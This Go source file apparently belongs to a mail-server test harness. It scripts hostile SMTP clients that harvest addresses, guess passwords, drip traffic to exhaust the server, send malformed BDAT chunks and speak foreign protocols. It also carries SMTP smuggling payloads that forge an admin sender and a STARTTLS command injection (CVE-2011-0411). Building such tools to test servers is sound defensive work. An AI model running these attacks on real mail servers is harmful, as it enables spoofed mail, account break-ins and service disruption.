package talk

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"strings"
	"time"
)

// Target is what a hostile conversation needs to know.
type Target struct {
	Name    string   // the server's
	Domain  string   // of its recipients
	Mailbox []string // local parts that exist
	Guess   func(*rand.Rand) string
	Form    string // which of an act's forms
	Mails   []*Mail
}

// Act is one way to be hostile. It returns how the conversation broke off, and
// records what it got in the session.
type Act func(*Client, *Target) error

// The forms of acts that have several.
var (
	JunkForms   = []string{"http-get", "http-post", "http-connect", "tls-hello", "ssh", "random-bytes", "nul-bytes", "long-line", "sip", "redis", "rdp", "socks5"}
	Smuggles    = []string{"\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r.\r\n", "\r\n.\r", "\n.\r", "\r.\n", "\r\n\x00.\r\n", "\r\n.\x00\r\n", "\r\r\n.\r\r\n"}
	ChunkForms  = []string{"unasked", "overflow", "negative", "huge", "mixed", "long-s", "empty-storm", "short", "no-number", "after-data"}
	InjectForms = []string{"RSET", "NOOP", "EHLO", "MAIL", "bare-lf", "QUIT"}
	DripForms   = []string{"octet", "endless-line", "noop", "empty-lines", "header", "ehlo-storm"}
)

// one picks from a list.
func (c *Client) one(list []string) string { return list[c.rng.IntN(len(list))] }

// Spam sends messages as the family's dialect has it.
func Spam(c *Client, t *Target) error { return c.Converse(t.Mails) }

// Idle reads the greeting and waits.
func Idle(c *Client, _ *Target) error {
	c.s.reach("greeting")
	return c.hold("greeting")
}

// Harvest tries n names from a dictionary.
func Harvest(n int) func(*Client, *Target) error {
	return func(c *Client, t *Target) error {
		if c.d.Pipeline == "blast" || c.d.Pipeline == "always" {
			c.d.Pipeline = "never" // it wants each answer
		}
		if n > 10 {
			c.d.Gap = min(c.d.Gap, 15*time.Millisecond)
		}
		err := c.open()
		if err == nil {
			var rep Reply
			if rep, _, err = c.ask("mail", fmt.Sprintf(c.d.Mail, t.Mails[0].From)); err == nil && rep.refusal() && c.d.Refused == "obey" {
				err = errRefused
			}
		}
		hits := 0
		for range n {
			if err != nil {
				break
			}
			name := t.Guess(c.rng)
			if c.rng.IntN(20) == 0 {
				name = c.one(t.Mailbox)
			}
			var rep Reply
			if rep, _, err = c.ask("rcpt", fmt.Sprintf(c.d.Rcpt, name+"@"+t.Domain)); err == nil && rep.Code/100 == 2 {
				hits++
			}
		}
		if hits > 0 && !c.s.Cut {
			c.s.Breach = "addresses"
		}
		if err != nil && !errors.Is(err, errRefused) {
			return err
		}
		return c.quit()
	}
}

// Guess tries n passwords: of one account, or of another one each time.
func Guess(n int, many bool) func(*Client, *Target) error {
	return func(c *Client, t *Target) error {
		if c.d.Pipeline == "blast" {
			c.d.Pipeline = "never"
		}
		c.d.TLS, c.d.Greet = true, "EHLO HELO" // AUTH is offered to EHLO, and mostly inside TLS
		err := c.open()
		user := c.one(t.Mailbox) + "@" + t.Domain
		for range n {
			if err != nil {
				break
			}
			if many {
				user = c.one(t.Mailbox) + "@" + t.Domain
			}
			var rep Reply
			rep, err = c.try(Account{user, fmt.Sprintf("%x", c.rng.Uint32())}, c.rng.IntN(2) == 0)
			if rep.Code == 235 {
				c.s.Breach = "login"
			}
		}
		if err != nil && !errors.Is(err, errRefused) {
			return err
		}
		return c.quit()
	}
}

// Junk speaks another protocol at once, then waits for what comes.
func Junk(c *Client, t *Target) error {
	c.s.reach("greeting")
	random := make([]byte, 600)
	for i := range random {
		random[i] = byte(c.rng.Uint32())
	}
	what := map[string]string{
		"http-get":     "GET / HTTP/1.1\r\nHost: " + t.Name + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
		"http-post":    "POST /login HTTP/1.1\r\nHost: " + t.Name + "\r\nContent-Length: 60\r\n\r\nHELO a\r\nMAIL FROM:<a@b.swarm>\r\nRCPT TO:<c@d.swarm>\r\nDATA\r\n",
		"http-connect": "CONNECT " + t.Name + ":25 HTTP/1.0\r\n\r\n",
		"tls-hello":    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + string(random[:500]),
		"ssh":          "SSH-2.0-Go\r\n",
		"random-bytes": string(random),
		"nul-bytes":    strings.Repeat("\x00", 600),
		"long-line":    strings.Repeat("A", 70_000),
		"sip":          "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nCSeq: 42 OPTIONS\r\n\r\n",
		"redis":        "*1\r\n$4\r\nINFO\r\n",
		"rdp":          "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
		"socks5":       "\x05\x01\x00",
	}[t.Form]
	if err := c.raw([]byte(what), 0, 0); err != nil {
		return err
	}
	return c.hold("helo")
}

// Unread asks without reading until the server stops taking it.
func Unread(c *Client, _ *Target) error {
	if tcp, ok := c.conn.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4096)
	}
	c.d.Gap, c.d.Segment = 0, 0
	if err := c.greeting(); err != nil {
		return err
	}
	for n := 0; n < 20_000; n++ {
		if err := c.send("helo", c.d.line(c.d.Verb("EHLO")+" "+c.s.Helo)); err != nil {
			return err
		}
	}
	return c.hold("helo")
}

// Drip keeps the server waiting for more.
func Drip(c *Client, t *Target) error {
	c.d.Segment, c.d.Gap, c.d.Wait = 0, 0, "220"
	if err := c.greeting(); err != nil {
		return err
	}
	what, n, pause := strings.Repeat("x", 1<<16), 1, 200*time.Millisecond
	switch t.Form {
	case "octet":
		what = "EHLO " + what[:60] + "\r\n" + what
	case "endless-line":
		n = 64
	case "noop":
		what, n, pause = strings.Repeat("NOOP\r\n", 2000), 6, 500*time.Millisecond
	case "empty-lines":
		what, n = strings.Repeat("\r\n", 5000), 2
	case "ehlo-storm":
		what, n, pause = strings.Repeat("EHLO a.swarm\r\n", 5000), 14, 20*time.Millisecond
	case "header":
		if err := c.hello(); err != nil {
			return err
		}
		for _, l := range []string{"mail " + fmt.Sprintf(c.d.Mail, t.Mails[0].From), "rcpt " + fmt.Sprintf(c.d.Rcpt, t.Mails[0].Rcpts[0].Addr), "data DATA"} {
			phase, line, _ := strings.Cut(l, " ")
			rep, _, err := c.ask(phase, line)
			if err != nil || rep.refusal() {
				_ = c.quit()
				return err
			}
		}
		c.s.reach("dot")
		what = "Subject: " + what
	}
	c.s.reach("helo")
	if err := c.raw([]byte(what), n, pause); err != nil {
		if errors.Is(err, errCut) { // the server's last word may still be there
			return c.hold("helo")
		}
		return err
	}
	return c.hold("helo")
}

// Smuggle hides a second transaction behind something that isn't the end of
// data.
func Smuggle(c *Client, t *Target) error {
	m := t.Mails[0]
	if err := c.open(); err != nil {
		if errors.Is(err, errRefused) {
			return c.quit()
		}
		return err
	}
	who := m.Pending()
	taken, data, err := c.run(m, append(c.envelope(m, who), step{phase: "data", line: c.d.Verb("DATA")}), false, false)
	if err != nil || !data {
		if err == nil {
			err = c.quit()
		}
		return err
	}
	second := fmt.Sprintf("MAIL FROM:<admin@%s>\r\nRCPT TO:<%s>\r\nDATA\r\nFrom: admin@%s\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n",
		t.Domain, m.Rcpts[taken[0]].Addr, t.Domain)
	if err := c.send("dot", string(m.Body)+"smuggled below"+t.Form+second); err != nil {
		_, _, err = c.last("dot", err)
		return err
	}
	if _, _, err := c.read("dot"); err != nil {
		return err
	}
	// One message was sent, so one reply is due; the next must be QUIT's.
	rep, _, err := c.ask("quit", "QUIT")
	if err == nil && rep.Code != 221 && rep.Code != 421 {
		c.s.Breach = "smuggled"
	}
	return err
}

// AbuseBDAT sends BDAT as no client would.
func AbuseBDAT(c *Client, t *Target) error {
	c.d.Pipeline, c.d.Reset = "never", ""
	err := c.open()
	if err == nil && t.Form != "unasked" {
		m := t.Mails[0]
		for _, s := range c.envelope(m, m.Pending()) {
			if _, _, err = c.ask(s.phase, s.line); err != nil {
				return err
			}
		}
	}
	if err != nil {
		if errors.Is(err, errRefused) {
			return c.quit()
		}
		return err
	}
	lines := map[string][]string{
		"unasked":    {"BDAT 10 LAST\r\n0123456789"},
		"overflow":   {"BDAT 18446744073709551626\r\n"},
		"negative":   {"BDAT -1 LAST\r\n"},
		"huge":       {"BDAT 2147483647\r\n0123456789"},
		"mixed":      {"BDAT 10\r\n01234567\r\n", "DATA\r\n"},
		"long-s":     {"BDAT 10 LA\u017fT\r\n01234567\r\n"},
		"short":      {"BDAT 1000 LAST\r\nonly this"},
		"no-number":  {"BDAT LAST\r\n"},
		"after-data": {"DATA\r\n", "BDAT 5 LAST\r\nabcde\r\n.\r\n"},
	}[t.Form]
	for range 500 {
		if t.Form == "empty-storm" {
			lines = append(lines, "BDAT 0\r\n")
		}
	}
	for _, l := range lines {
		c.s.reach("data")
		if err := c.raw([]byte(l), 0, 0); err != nil {
			_, _, err = c.last("data", err)
			return err
		}
		rep, _, err := c.read("data") // "huge" and "short" stay here until somebody gives up
		if err != nil {
			return err
		}
		if t.Form == "after-data" && rep.Code/100 == 2 {
			c.s.Breach = "chunk"
		}
	}
	return c.quit()
}

// Inject puts a command behind STARTTLS in the same write, to be executed inside
// TLS by a server that keeps its buffer (CVE-2011-0411).
func Inject(c *Client, t *Target) error {
	c.d.Pipeline, c.d.TLS, c.d.Wait = "never", false, "220"
	if err := c.open(); err != nil {
		if errors.Is(err, errRefused) {
			return c.quit()
		}
		return err
	}
	end := "\r\n"
	command := t.Form
	switch command {
	case "EHLO":
		command += " injected.swarm"
	case "MAIL":
		command += " FROM:<injected@" + t.Domain + ">"
	case "bare-lf":
		end, command = "\n", "NOOP"
	}
	if err := c.send("tls", c.d.Verb("STARTTLS")+end+command+end); err != nil {
		_, _, err = c.last("tls", err)
		return err
	}
	rep, _, err := c.read("tls")
	if err != nil {
		return err
	}
	if rep.Code == 220 {
		if err := c.startTLS(); err != nil {
			return err
		}
		// A reply before we have said anything inside TLS answers the injection.
		_ = c.conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
		if _, err := c.r.Peek(1); err == nil {
			c.s.Breach = "injected"
		}
		_ = c.conn.SetDeadline(c.end)
		if err := c.hello(); err != nil {
			if errors.Is(err, errRefused) {
				return c.quit()
			}
			return err
		}
	}
	for _, m := range t.Mails {
		if err := c.transaction(m, true); err != nil {
			if errors.Is(err, errRefused) {
				break
			}
			return err
		}
	}
	return c.quit()
}
